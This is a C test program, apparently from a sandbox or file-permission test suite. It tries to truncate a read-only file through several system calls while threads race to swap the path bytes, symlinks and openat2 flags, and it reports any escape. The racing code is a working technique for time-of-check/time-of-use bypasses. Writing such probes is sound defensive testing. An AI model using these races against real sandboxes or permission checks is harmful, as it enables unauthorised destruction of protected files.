/* Cuts a file that can only be read, also while its path, a link or the flags are swapped.
 * Argument: the file. */
#include "attack.h"
#include <linux/openat2.h>
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static struct open_how *how;
static const char *wanted;
static off_t size;
static volatile int over;

static void *swap_bytes(void *none) {
    for (; !over;) {
        strcpy(path, "granted");
        strcpy(path, wanted);
    }
    return none;
}

static void *swap_links(void *none) {
    for (; !over;) {
        symlink("granted", "new");
        rename("new", "way");
        symlink(wanted, "new");
        rename("new", "way");
    }
    return none;
}

static void *swap_flags(void *none) {
    for (; !over;) {
        how->flags = O_RDONLY;
        how->flags = O_RDONLY | O_TRUNC;
    }
    return none;
}

static void check(const char *way) {
    struct stat st;
    if (stat(wanted, &st) == 0 && st.st_size != size) escaped(way);
}

static void close_if(int fd) {
    if (fd >= 0) close(fd);
}

static void once(const char *name) {
    close_if(open(name, O_RDONLY | O_TRUNC));
    check("open to read, and cut");
    close_if(open(name, O_WRONLY | O_TRUNC));
    check("open to write, and cut");
    close_if(creat(name, 0600));
    check("creat");
    truncate(name, 0);
    check("truncate");
    close_if(syscall(SYS_openat2, AT_FDCWD, name, how, sizeof *how));
    check("openat2");
    int fd = open(name, O_RDONLY);
    if (fd >= 0 && ftruncate(fd, 0) == 0) check("ftruncate of what was opened to read");
    close_if(fd);
}

static void race(void *(*swapper)(void *), const char *name) {
    pthread_t thread;
    over = 0;
    pthread_create(&thread, NULL, swapper, NULL);
    for (double end = now() + 0.3; now() < end;) once(name);
    over = 1;
    pthread_join(thread, NULL);
}

int main(int argc, char **argv) {
    if (argc != 2) return 3;
    wanted = argv[1];
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    how = (struct open_how *)(path + 4096);
    how->flags = O_RDONLY | O_TRUNC;
    struct stat st;
    int fd = open("granted", O_WRONLY | O_CREAT, 0600);
    if (fd < 0 || stat(wanted, &st) || !st.st_size) return 3;
    size = st.st_size;
    strcpy(path, wanted);
    once(wanted);
    race(swap_bytes, path);
    race(swap_flags, wanted);
    unlink("way");
    race(swap_links, "way");
    return 0;
}
